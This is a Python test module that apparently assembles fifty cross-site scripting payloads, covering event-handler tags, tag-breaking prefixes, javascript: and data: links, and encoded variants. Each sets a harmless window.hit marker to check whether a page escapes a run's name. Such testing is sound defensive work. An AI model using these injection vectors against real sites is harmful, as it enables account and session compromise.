"""Fifty ways to run a script from a run's name, if a page let it. Each would set window.hit."""

HIT = "window.hit=1"
TAGS = ("img src=x onerror", "svg onload", "body onload", "input autofocus onfocus", "video src=x onerror",
        "audio src=x onerror", "details open ontoggle", "marquee onstart", "iframe onload", "object data=x onerror",
        "style onload", "link rel=stylesheet href=x onerror", "select autofocus onfocus", "textarea autofocus onfocus",
        "keygen autofocus onfocus", "embed src=x onerror", "math onmouseover", "a href=# onfocus",
        "p onpointerenter")  # fmt: skip
BREAKS = (
    "",
    '"',
    "'",
    "</script>",
    "</title>",
    "</textarea>",
    "]]>",
    "-->",
    "`",
    "</td></tr></table>",
)
LINKS = (f"<a href=javascript:{HIT}>x</a>", f"<a href='data:text/html,<script>{HIT}</script>'>x</a>",
         f"javascript:{HIT}", f"<form action=javascript:{HIT}><button>x", f"<base href=javascript:{HIT}//>",
         f"<iframe srcdoc='<script>parent.{HIT}</script>'>", f"<meta http-equiv=refresh content='0;javascript:{HIT}'>",
         f"<svg><script>{HIT}</script></svg>", f"<svg><a xlink:href=javascript:{HIT}><text>x</text></a></svg>",
         f"<math><mtext></mtext><mglyph><style><img src=x onerror={HIT}>",
         f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>")  # fmt: skip
ODD = (f"%3Cscript%3E{HIT}%3C/script%3E", f"&lt;img src=x onerror={HIT}&gt;", f"&#60;img src=x onerror={HIT}&#62;",
       f"\\u003cimg src=x onerror={HIT}\\u003e", f"{{{{constructor.constructor('{HIT}')()}}}}", f"${{{HIT}}}",
       f"<img src=x onerror\x00={HIT}>", f"<<script>{HIT}//<</script>", f"\u2028{HIT}\u2029",
       f"%{{{HIT}}}<extra>")  # fmt: skip
PAYLOADS = [
    *(f"<{tag}={HIT}>" for tag in TAGS),
    *(f"{end}<script>{HIT}</script>" for end in BREAKS),
    *LINKS,
    *ODD,
]
assert len(PAYLOADS) == len(set(PAYLOADS)) == 50
